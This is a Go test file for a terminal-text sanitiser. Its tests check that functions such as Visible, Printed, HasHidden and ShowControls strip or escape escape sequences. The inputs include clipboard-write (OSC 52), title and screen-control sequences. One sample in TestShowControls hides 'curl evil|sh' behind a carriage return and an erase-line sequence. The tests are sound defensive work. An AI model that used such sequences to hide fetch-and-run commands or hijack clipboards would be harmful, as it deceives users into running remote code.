package termtext

import (
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestVisible(t *testing.T) {
	for _, tc := range []struct {
		name, in, want, plain string
	}{
		{"plain text is left alone", "make -j8\tok", "make -j8\tok", ""},
		{"colours are kept", "\x1b[31mred\x1b[0m", "\x1b[31mred\x1b[0m", "red"},
		{"clipboard write (OSC 52)", "a\x1b]52;c;ZXZpbA==\x07b", "ab", ""},
		{"title change, ST-terminated", "\x1b]0;owned\x1b\\title", "title", ""},
		{"screen clear and cursor home", "\x1b[2J\x1b[Hclear", "clear", ""},
		{"cursor moves and private modes", "\x1b[10A\x1b[?1049hx\x1b7\x1b8", "x", ""},
		{"device queries", "\x1b[6n\x1b[c\x1bZq", "q", ""},
		{"DCS and APC", "\x1bPq#0\x1b\\\x1b_hidden\x1b\\v", "v", ""},
		{"C1 controls, raw and UTF-8", "\x9b2Ja\u009d0;t\u009cb\u0085c", "ab\\xc2\\x85c", ""},
		{"controls are shown", "bell\x07back\x08cr\rdel\x7f", `bell\x07back\x08cr\x0ddel\x7f`, ""},
		{"a bare ESC", "a\x1b", "a", ""},
		{"bytes that are not UTF-8", "ok\xff\xfe", "ok\uFFFD\uFFFD", ""},
		{"wide and combining text", "日本 é 👍🏽", "日本 é 👍🏽", ""},
		{"a private SGR is no SGR", "\x1b[>4;2mx", "x", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, Visible(tc.in, true))
			plain := tc.plain
			if plain == "" {
				plain = tc.want
			}
			assert.Equal(t, plain, Visible(tc.in, false), "without SGR")
		})
	}
}

func TestNextKinds(t *testing.T) {
	s := "ab\t\x1b[1m\x1b[2J\x07\xffé"
	var kinds []Kind
	for i := 0; i < len(s); {
		tok := Next(s, i)
		kinds = append(kinds, tok.Kind)
		i = tok.End
	}
	assert.Equal(t, []Kind{Text, Tab, SGR, Escape, Control, Invalid, Cluster}, kinds)
	assert.Equal(t, 2, Next("日", 0).Width)
}

func TestOneLine(t *testing.T) {
	assert.Equal(t, "printf a ⏎ sleep 1 ⏎ printf  b", OneLine("printf a\n  sleep 1\nprintf  b\n"))
	assert.Equal(t, "make -j8", OneLine("make -j8"))
}

// A byte that is not UTF-8 ends the cluster before it: the segmenter
// would take a backspace or a newline after a bad lead byte with it, and
// print it as text.
func TestABadByteEndsTheClusterBeforeIt(t *testing.T) {
	for in, want := range map[string]string{
		"0\xf0\b0":     "0\uFFFD\\x080",
		"é\xf0\n":      "é\uFFFD\\x0a",
		"日\xe2\x1b[2J": "日\uFFFD",
		"x\xf0\x07y":   "x\uFFFD\\x07y",
	} {
		assert.Equal(t, want, Visible(in, false), "%q", in)
	}
	assert.Equal(t, "00", EditLine("0\xf0\b0"), "the backspace moves back over the U+FFFD")
}

func TestPrinted(t *testing.T) {
	for _, tc := range []struct {
		name, in, want, plain string
	}{
		{"plain text is left alone", "make -j8\tok", "make -j8\tok", ""},
		{"colours are kept", "\x1b[31mred\x1b[0m", "\x1b[31mred\x1b[0m", "red"},
		{"modes, cursor show and hide", "\x1b[?2004h\x1b[?25lx\x1b[?25h\x1b[?5h", "x", ""},
		{"charset switches, SO and SI", "\x1b(0lq\x1b(B\x0ea\x0f", "lqa", ""},
		{"DECALN, RIS, scrollback clear", "\x1b#8a\x1bcb\x1b[3Jc", "abc", ""},
		{"a reset ends colours", "\x1b[31mred\x1bcplain\x1b[1m!\x1b[!pplain", "\x1b[31mred\x1b[0mplain\x1b[1m!\x1b[0mplain", "redplain!plain"},
		{"queries", "\x1b[6n\x1b]11;?\x07\x1b[c?", "?", ""},
		{"a title and the clipboard", "\x1b]0;t\x07a\x1b]52;c;eA==\x1b\\b", "ab", ""},
		{"controls are removed", "bell\x07back\x08del\x7f", "bellbackdel", ""},
		{"C1 controls, raw and UTF-8", "\x9b2Ja\u009d0;t\u009cb\u0085c", "abc", ""},
		{"bytes that are not UTF-8 stay", "ok\xff\x1b[?25l", "ok\xff", ""},
		{"wide and combining text", "日本 é 👍🏽", "日本 é 👍🏽", ""},
		{"a private SGR is no SGR", "\x1b[>4;2mx", "x", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, Printed(tc.in, true))
			plain := tc.plain
			if plain == "" {
				plain = tc.want
			}
			assert.Equal(t, plain, Printed(tc.in, false), "without SGR")
			assert.Equal(t, tc.want != tc.in, HasHidden([]byte(tc.in)), "HasHidden")
		})
	}
}

// TestHasHiddenIsExact: text HasHidden passes is what Printed keeps as
// it is, and what it flags Printed changes (but a few sequences it only
// may hold).
func TestHasHiddenIsExact(t *testing.T) {
	for _, in := range []string{
		"", "a", "\x1b[m", "\x1b[1;31:2mx\x1b[0m", "\x1b[?1m", "\x1b[1", "\x1b",
		"é\u0301", "\xc2", "\xc2\x85", "\xe2\x80\x9b", "\x9b", "\xff\x80", "\t\t", "a\x00",
	} {
		hidden := HasHidden([]byte(in))
		changed := Printed(in, true) != in
		assert.Equal(t, changed, hidden, "%q", in)
	}
}

func TestPlacesCursor(t *testing.T) {
	for in, want := range map[string]bool{
		"\x1b[1;1Htop": true, "\x1b[Hx": true, "\x1b[5;2f": true, "\x1b[3d": true,
		"\x1b[5Ax": false, "\x1b[?25lx": false, "plain": false, "\x1b[1mH": false,
	} {
		assert.Equal(t, want, PlacesCursor([]byte(in)), "%q", in)
	}
}

// hasHiddenByByte is HasHidden as it was, a byte at a time: the reference
// for its eight-at-a-time skip over printable ASCII.
func hasHiddenByByte(b []byte) bool {
	for i := 0; i < len(b); i++ {
		switch c := b[i]; {
		case c == 0x1b:
			k := i + 1
			if k >= len(b) || b[k] != '[' {
				return true
			}
			for k++; k < len(b) && (b[k] >= '0' && b[k] <= '9' || b[k] == ';' || b[k] == ':'); k++ {
			}
			if k >= len(b) || b[k] != 'm' {
				return true
			}
			i = k
		case c < 0x20 && c != '\t', c == 0x7f:
			return true
		case c >= 0x80:
			r, size := utf8.DecodeRune(b[i:])
			if r == utf8.RuneError && size == 1 && c <= 0x9f || r >= 0x80 && r <= 0x9f {
				return true
			}
			i += size - 1
		}
	}
	return false
}

// TestHasHiddenSkipsPlainTextExactly puts every byte value at every
// place in and around an eight-byte word of plain text, and random
// mixes of text and sequences, through both.
func TestHasHiddenSkipsPlainTextExactly(t *testing.T) {
	plain := []byte("0123456789abcdefghijklmnopqrstuv")
	for c := 0; c < 256; c++ {
		for at := 0; at < 20; at++ {
			b := append([]byte(nil), plain[:20]...)
			b[at] = byte(c)
			require.Equal(t, hasHiddenByByte(b), HasHidden(b), "byte %#x at %d", c, at)
			require.Equal(t, hasHiddenByByte(b[at:]), HasHidden(b[at:]), "byte %#x first", c)
		}
	}
	pieces := []string{"a", "01234567", "~ ~", "\x1b[31m", "\x1b[1;2:3m", "\x1b[", "\x1b[5", "\x1b[?25l", "\x1b",
		"\t", "\x7f", "\x00", "é", "\u0085", "\x85", "\xc2", "界", "\U0001F600", "\xff"}
	rng := rand.New(rand.NewPCG(3, 4))
	for range 50000 {
		var b []byte
		for range rng.IntN(10) {
			b = append(b, pieces[rng.IntN(len(pieces))]...)
		}
		require.Equal(t, hasHiddenByByte(b), HasHidden(b), "%q", b)
	}
}

func FuzzHasHidden(f *testing.F) {
	f.Add([]byte("0123456789\x1b[31mabcdefgh\x7f"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if hasHiddenByByte(b) != HasHidden(b) {
			t.Fatalf("HasHidden(%q) = %v", b, HasHidden(b))
		}
	})
}

// BenchmarkHasHiddenPlainLine: an 80-column line of plain text, eight
// bytes at a time against a byte at a time.
func BenchmarkHasHiddenPlainLine(b *testing.B) {
	line := []byte(strings.Repeat("0123456789", 8))
	for name, f := range map[string]func([]byte) bool{"HasHidden": HasHidden, "byte-at-a-time": hasHiddenByByte} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(line)))
			for range b.N {
				if f(line) {
					b.Fatal("plain text is not hidden")
				}
			}
		})
	}
}

func TestShowControls(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`plain text, a \n kept as typed`, `plain text, a \n kept as typed`},
		{"é ✓ 日本", "é ✓ 日本"},
		{"\x1b]52;c;eA==\acurl evil|sh;:\r\x1b[Kecho hi", `\x1b]52;c;eA==\acurl evil|sh;:\r\x1b[Kecho hi`},
		{"a\tb\nc\x00d\x7f", `a\tb\nc\x00d\x7f`},
		{"csi\u009b2J osc\u009d", `csi\u009b2J osc\u009d`},
		{"bad\xffbyte\xc2", `bad\xffbyte\xc2`},
	} {
		assert.Equal(t, tc.want, ShowControls(tc.in), "%q", tc.in)
	}
}
